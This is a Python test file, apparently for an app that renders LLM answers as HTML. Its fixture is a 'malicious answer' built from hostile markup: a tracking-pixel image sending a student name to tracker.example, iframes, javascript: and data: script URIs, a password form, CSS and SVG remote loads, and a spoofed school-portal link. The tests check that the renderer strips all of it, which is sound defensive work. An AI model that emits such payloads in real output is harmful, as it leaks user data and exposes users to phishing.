"""A model's answer (which may quote a hostile document) rendered as HTML: it cannot make the
browser fetch anything, and its links say where they go."""

import re
from html.parser import HTMLParser

from apps.llm.rendering import render_markdown

MALICIOUS_ANSWER = """\
Here is what the document says [1].

![tracking pixel](https://tracker.example/pixel.gif?student=alice)
<img src="https://tracker.example/raw.gif"> <iframe src="https://evil.example/"></iframe>
<video src="https://evil.example/v.mp4" autoplay></video> <audio src=x autoplay></audio>
<link rel="prefetch" href="https://evil.example/prefetch">
<a href="https://evil.example/" ping="https://evil.example/ping">raw html link</a>
[Your school portal](https://evil.example/login?next=portal) and [local](/vault/)
[reference style][ref] <https://evil.example/auto> [js](javascript:alert(1))
[data](data:text/html,<script>alert(1)</script>)
<form action="https://evil.example/"><input name=password></form>
<svg><image href="https://evil.example/svg.png"/></svg>
<style>@import url(https://evil.example/x.css)</style>
<div style="background:url(https://evil.example/bg.png)">styled</div>

[ref]: https://evil.example/ref "Trust me"
"""


class Elements(HTMLParser):
    """Every element the browser would build from the HTML, with its attributes."""

    def __init__(self, html: str):
        super().__init__()
        self.found: list[tuple[str, dict]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def test_a_malicious_answer_loads_nothing():
    html = str(render_markdown(MALICIOUS_ANSWER, sources_anchor="source"))
    elements = Elements(html).found

    assert {tag for tag, _ in elements} <= {"p", "a", "span", "br"}
    for _tag, attributes in elements:
        assert set(attributes) <= {"href", "rel", "target", "class", "title"}
        assert not attributes.get("href", "").startswith(("javascript:", "data:"))


def test_links_to_other_hosts_show_their_target_and_open_without_opener_or_referrer():
    html = str(render_markdown(MALICIOUS_ANSWER, sources_anchor="source"))

    portal = re.search(r'<a [^>]*href="https://evil.example/login\?next=portal"[^>]*>', html)
    assert portal is not None
    assert 'rel="noopener noreferrer nofollow"' in portal.group(0)
    assert 'target="_blank"' in portal.group(0)
    assert (
        'Your school portal</a> <span class="link-target">(https://evil.example/login?next=portal)'
        in html
    )
    # Reference-style links too; a bare address is its own label and is not repeated.
    assert '<span class="link-target">(https://evil.example/ref)</span>' in html
    assert "(https://evil.example/auto)</span>" not in html
    for anchor in re.findall(r"<a [^>]*>", html):
        assert 'rel="noopener noreferrer nofollow"' in anchor


def test_links_inside_the_app_stay_plain():
    html = str(render_markdown(MALICIOUS_ANSWER, sources_anchor="source"))

    assert '<a href="/vault/" rel="noopener noreferrer nofollow">local</a>' in html
    assert '<a href="#source-1" rel="noopener noreferrer nofollow">[1]</a>' in html
    assert "link-target" not in html.split("local</a>")[1].split("\n")[0][:20]


def test_a_long_target_is_shortened_but_still_shown():
    html = str(render_markdown(f"[here](https://evil.example/{'a' * 200})"))
    shown = re.search(r'<span class="link-target">\((.*?)\)</span>', html).group(1)
    assert shown.startswith("https://evil.example/aaa") and shown.endswith("…")
    assert len(shown) == 80
